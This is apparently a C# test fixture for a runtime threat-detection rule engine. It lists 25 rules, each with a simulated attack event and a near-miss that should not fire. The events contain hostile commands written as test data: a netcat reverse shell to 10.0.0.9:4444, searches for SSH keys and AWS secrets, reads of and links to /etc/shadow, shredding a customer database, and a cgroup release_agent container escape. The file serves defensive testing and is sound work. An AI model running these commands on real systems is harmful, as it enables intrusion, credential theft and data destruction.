using Hermes.Rules.Tests.Support;

namespace Hermes.Rules.Tests.Engine.OfficialRules;

/// <summary>
/// For each of the 25 stable rules: an event an attack (or the event-generator action) would produce, and a near
/// miss that differs in one meaningful attribute. Events carry the context the collector provides for every event.
/// </summary>
internal static class OfficialRuleCases
{
    public sealed record Case(string Rule, string Why, Func<TestEvent> Fires, string MissWhy, Func<TestEvent> Misses);

    // A process in a Kubernetes pod, as the collector's state describes it.
    private static TestEvent InContainer(string type) => OnHost(type)
        .Set("container.id", "3ad7b26ded6d").Set("container.image.repository", "ghcr.io/acme/payments-api")
        .Set("container.privileged", false).Set("k8s.ns.name", "payments").Set("k8s.pod.name", "payments-api-7d9f");

    private static TestEvent OnHost(string type) => TestEvent.Of(type)
        .Set("container.id", "host").Set("user.name", "root").Set("user.uid", 0L).Set("user.loginuid", -1L)
        .Set("proc.tty", 0L).Set("evt.rawres", 0L).Set("evt.res", "SUCCESS").Set("proc.duration", 60_000_000_000L);

    private static TestEvent Open(string path, string process, bool write = false, bool inContainer = false) =>
        (inContainer ? InContainer("openat") : OnHost("openat"))
            .Set("proc.name", process).Set("proc.exepath", "/usr/bin/" + process).Set("proc.cmdline", process + " " + path)
            .Set("fd.name", path).Set("fd.nameraw", path).Set("fd.typechar", "f").Set("fd.type", "file").Set("fd.num", 3L)
            .Set("fd.directory", path[..Math.Max(1, path.LastIndexOf('/'))]).Set("fd.filename", path[(path.LastIndexOf('/') + 1)..])
            .Set("evt.is_open_read", !write).Set("evt.is_open_write", write)
            .Set("evt.arg.flags", write ? "O_WRONLY|O_TRUNC|O_CLOEXEC" : "O_RDONLY|O_CLOEXEC")
            .Ancestors("bash", "sshd", "systemd");

    private static TestEvent Exec(string process, string args, bool inContainer = false, params string[] ancestors) =>
        (inContainer ? InContainer("execve") : OnHost("execve"))
            .Set("proc.name", process).Set("proc.exe", "/usr/bin/" + process).Set("proc.exepath", "/usr/bin/" + process)
            .Set("proc.args", args).Set("proc.cmdline", (process + " " + args).Trim()).Set("proc.cwd", "/root/")
            .Set("proc.is_exe_upper_layer", false).Set("proc.is_exe_from_memfd", false)
            .Ancestors(ancestors.Length > 0 ? ancestors : ["bash", "sshd", "systemd"]);

    private static TestEvent Connect(string exe, string serverIp, long port, string? sipName = null, bool inContainer = false)
    {
        var evt = (inContainer ? InContainer("connect") : OnHost("connect"))
            .Set("proc.name", Path.GetFileName(exe)).Set("proc.exe", exe).Set("proc.exepath", exe)
            .Set("fd.typechar", "4").Set("fd.type", "ipv4").Set("fd.l4proto", "tcp")
            .Set("fd.sip", serverIp).Set("fd.ip", serverIp).Set("fd.net", serverIp).Set("fd.snet", serverIp).Set("fd.sport", port)
            .Set("fd.name", $"10.1.2.3:40000->{serverIp}:{port}").Ancestors("bash", "sshd", "systemd");
        return sipName is null ? evt : evt.Set("fd.sip.name", sipName);
    }

    public static IEnumerable<Case> All()
    {
        yield return new("Directory traversal monitored file read",
            "a web app opens /etc/../etc/../etc/shadow",
            () => Open("/etc/shadow", "python3").Set("fd.nameraw", "/var/www/../../etc/../etc/../etc/shadow").Ancestors("gunicorn", "systemd"),
            "the same file read by its absolute path",
            () => Open("/etc/shadow", "python3").Ancestors("gunicorn", "systemd"));

        yield return new("Read sensitive file trusted after startup",
            "nginx, running for a minute, reads /etc/shadow",
            () => Open("/etc/shadow", "nginx").Ancestors("systemd"),
            "nginx reads it within its first seconds (startup)",
            () => Open("/etc/shadow", "nginx").Set("proc.duration", 1_000_000_000L).Ancestors("systemd"));

        yield return new("Read sensitive file untrusted",
            "cat reads /etc/shadow",
            () => Open("/etc/shadow", "cat"),
            "cat reads /etc/hosts",
            () => Open("/etc/hosts", "cat"));

        yield return new("Run shell untrusted",
            "a process named httpd spawns a shell",
            () => Exec("bash", "-c id", false, "httpd", "systemd"),
            "the shell is spawned by another shell",
            () => Exec("bash", "-c id", false, "bash", "sshd", "systemd"));

        yield return new("System user interactive",
            "www-data runs a command from an ssh session",
            () => Exec("ls", "-la", false, "bash", "sshd", "systemd").Set("user.name", "www-data"),
            "root runs it",
            () => Exec("ls", "-la", false, "bash", "sshd", "systemd"));

        yield return new("Terminal shell in container",
            "kubectl exec -it: a shell with a tty started by runc",
            () => Exec("bash", "", true, "runc:[1:CHILD]", "containerd-shim").Set("proc.tty", 34816L),
            "the same shell without a terminal",
            () => Exec("bash", "", true, "runc:[1:CHILD]", "containerd-shim"));

        yield return new("Contact K8S API Server From Container",
            "a pod's process connects to the API server",
            () => Connect("/usr/bin/curl", "10.96.0.1", 443, "kubernetes.default.svc.cluster.local", inContainer: true),
            "the same connection from a kube-system pod",
            () => Connect("/usr/bin/curl", "10.96.0.1", 443, "kubernetes.default.svc.cluster.local", inContainer: true).Set("k8s.ns.name", "kube-system"));

        yield return new("Netcat Remote Code Execution in Container",
            "nc -e /bin/sh in a container",
            () => Exec("nc", "-e /bin/sh 10.0.0.9 4444", true).Set("proc.cmdline", "nc -e /bin/sh 10.0.0.9 4444"),
            "nc used as a plain client",
            () => Exec("nc", "10.0.0.9 4444", true));

        yield return new("Search Private Keys or Passwords",
            "find / -name id_rsa",
            () => Exec("find", "/ -name id_rsa"),
            "find / -name '*.log'",
            () => Exec("find", "/ -name *.log"));

        yield return new("Clear Log Activities",
            "/var/log/syslog opened for writing with O_TRUNC",
            () => Open("/var/log/syslog", "bash", write: true),
            "opened for appending",
            () => Open("/var/log/syslog", "bash", write: true).Set("evt.arg.flags", "O_WRONLY|O_APPEND|O_CLOEXEC"));

        yield return new("Remove Bulk Data from Disk",
            "shred a file",
            () => Exec("shred", "-u /data/customers.db"),
            "rm of a file",
            () => Exec("rm", "-f /tmp/x"));

        yield return new("Create Symlink Over Sensitive Files",
            "ln -s /etc/shadow /tmp/s",
            () => OnHost("symlinkat").Set("proc.name", "ln").Set("evt.arg.target", "/etc/shadow").Set("evt.arg.linkpath", "/tmp/s"),
            "a symlink to /etc/hosts",
            () => OnHost("symlinkat").Set("proc.name", "ln").Set("evt.arg.target", "/etc/hosts").Set("evt.arg.linkpath", "/tmp/s"));

        yield return new("Create Hardlink Over Sensitive Files",
            "ln /etc/shadow /tmp/h",
            () => OnHost("linkat").Set("proc.name", "ln").Set("evt.arg.oldpath", "/etc/shadow").Set("evt.arg.newpath", "/tmp/h"),
            "a hard link to /etc/hosts",
            () => OnHost("linkat").Set("proc.name", "ln").Set("evt.arg.oldpath", "/etc/hosts").Set("evt.arg.newpath", "/tmp/h"));

        yield return new("Packet socket created in container",
            "an AF_PACKET socket in a container",
            () => InContainer("socket").Set("proc.name", "tcpdump").Set("evt.arg.domain", "AF_PACKET"),
            "an AF_INET socket",
            () => InContainer("socket").Set("proc.name", "tcpdump").Set("evt.arg.domain", "AF_INET"));

        yield return new("Redirect STDOUT/STDIN to Network Connection in Container",
            "dup2 of a TCP socket onto stdout (reverse shell)",
            () => InContainer("dup2").Set("proc.name", "bash").Set("evt.rawres", 1L).Set("fd.type", "ipv4"),
            "dup2 of a file onto stdout",
            () => InContainer("dup2").Set("proc.name", "bash").Set("evt.rawres", 1L).Set("fd.type", "file"));

        yield return new("Linux Kernel Module Injection Detected",
            "finit_module from a container with CAP_SYS_MODULE",
            () => InContainer("finit_module").Set("proc.name", "insmod").Set("thread.cap_effective", "CAP_SYS_MODULE CAP_SYS_ADMIN"),
            "the same from the host",
            () => OnHost("finit_module").Set("proc.name", "insmod").Set("thread.cap_effective", "CAP_SYS_MODULE CAP_SYS_ADMIN"));

        yield return new("Debugfs Launched in Privileged Container",
            "debugfs in a privileged container",
            () => Exec("debugfs", "/dev/sda1", true).Set("container.privileged", true),
            "in an unprivileged one",
            () => Exec("debugfs", "/dev/sda1", true));

        yield return new("Detect release_agent File Container Escapes",
            "root in a container with CAP_SYS_ADMIN writes a cgroup release_agent",
            () => Open("/sys/fs/cgroup/rdma/release_agent", "sh", write: true, inContainer: true).Set("thread.cap_effective", "CAP_SYS_ADMIN CAP_DAC_OVERRIDE"),
            "without CAP_SYS_ADMIN",
            () => Open("/sys/fs/cgroup/rdma/release_agent", "sh", write: true, inContainer: true).Set("thread.cap_effective", "CAP_DAC_OVERRIDE"));

        yield return new("PTRACE attached to process",
            "PTRACE_ATTACH to another process",
            () => OnHost("ptrace").Set("proc.name", "gdb").Set("evt.arg.request", "PTRACE_ATTACH"),
            "PTRACE_PEEKDATA only",
            () => OnHost("ptrace").Set("proc.name", "gdb").Set("evt.arg.request", "PTRACE_PEEKDATA"));

        yield return new("PTRACE anti-debug attempt",
            "PTRACE_TRACEME",
            () => OnHost("ptrace").Set("proc.name", "malware").Set("evt.arg.request", "PTRACE_TRACEME"),
            "PTRACE_CONT",
            () => OnHost("ptrace").Set("proc.name", "malware").Set("evt.arg.request", "PTRACE_CONT"));

        yield return new("Find AWS Credentials",
            "grep for aws_secret_access_key",
            () => Exec("grep", "-r aws_secret_access_key /home"),
            "grep for an error message",
            () => Exec("grep", "-r ERROR /var/log/app"));

        yield return new("Execution from /dev/shm",
            "a binary executed from /dev/shm",
            () => Exec("payload", "").Set("proc.exe", "/dev/shm/payload").Set("proc.exepath", "/dev/shm/payload"),
            "the same binary from /usr/local/bin",
            () => Exec("payload", "").Set("proc.exe", "/usr/local/bin/payload"));

        yield return new("Drop and execute new binary in container",
            "a binary written into the container (overlay upper layer) is executed",
            () => Exec("xmrig", "--donate-level 1", true).Set("proc.is_exe_upper_layer", true),
            "a binary of the image itself",
            () => Exec("xmrig", "--donate-level 1", true));

        yield return new("Disallowed SSH Connection Non Standard Port",
            "ssh to a public address on port 4444",
            () => Connect("/usr/bin/ssh", "52.12.33.4", 4444),
            "ssh to the same address on port 22",
            () => Connect("/usr/bin/ssh", "52.12.33.4", 22));

        yield return new("Fileless execution via memfd_create",
            "execution of a memfd",
            () => Exec("3", "", false, "python3", "bash").Set("proc.is_exe_from_memfd", true).Set("proc.exe", "memfd:payload").Set("proc.exepath", "memfd:payload"),
            "runc re-executing itself from a memfd (known)",
            () => Exec("runc", "init", false, "containerd-shim").Set("proc.is_exe_from_memfd", true).Set("proc.exe", "memfd:runc_cloned:/proc/self/exe"));
    }
}
